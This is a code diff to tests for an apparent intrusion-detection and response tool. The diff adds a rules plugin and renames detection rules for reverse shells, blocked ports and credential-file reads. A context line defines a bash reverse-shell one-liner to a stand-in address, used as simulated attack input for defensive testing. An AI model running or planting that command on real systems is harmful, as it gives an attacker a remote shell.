@@ -11,6 +11,7 @@ from response_kit import SimulatedAgent, event, make_hive, until
 from immune.plugins.exploit import ExploitPlugin
 from immune.plugins.playbook import PlaybookPlugin
 from immune.plugins.response import ResponsePlugin
+from immune.plugins.rules import RulesPlugin
 
 SHELL = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
 
@@ -19,10 +20,12 @@ async def start(db_url: str) -> tuple[Any, SimulatedAgent, list[Any]]:
     hive = make_hive(
         db_url,
         [
+            ("rules", RulesPlugin()),
             ("exploit", ExploitPlugin()),
             ("playbook", PlaybookPlugin()),
             ("response", ResponsePlugin()),
         ],
+        rules={"poll_interval": 0},
         playbook={"dry_run": False},
         response={"tick_s": 0.05},
     )
@@ -53,15 +56,16 @@ async def test_scenario_reverse_shell_respawning(db_url: str) -> None:
         await hive.store.flush()
         alerts = {a["rule"]: a for a in hive.store.alerts()}
         assert sorted(alerts) == [
-            "connect-to-backdoor-port",
+            "connect-to-blocked-port",
             "exec-from-temp-dir",
             "reverse-shell-cmdline",
         ]
+        assert len(hive.store.alerts()) == 3
         shell = alerts["reverse-shell-cmdline"]
         assert shell["count"] == 10 and len(shell["event_ids"]) == 10
         assert shell["severity"] == "critical"
         assert shell["data"]["addr"] == "203.0.113.9"
-        assert alerts["connect-to-backdoor-port"]["count"] == 10
+        assert alerts["connect-to-blocked-port"]["count"] == 10
 
         # The reverse-shell playbook ran once: block the remote end, tell,
         # snapshot; the critical one tells at once and isolates 5 s later.
@@ -104,7 +108,7 @@ async def test_scenario_credential_file_reads(sqlite_url: str) -> None:
         await until(lambda: hive.store.runs(playbook="credential-access-alert"))
         await hive.store.flush()
         (stored,) = hive.store.alerts()
-        assert (stored["rule"], stored["count"]) == ("sensitive-file-read", 5)
+        assert (stored["rule"], stored["count"]) == ("credential-file-read", 5)
         assert [n["playbook"] for n in notes] == ["credential-access-alert"]
         (run,) = hive.store.runs()
         assert [s["action"] for s in run["steps"]] == ["alert"]
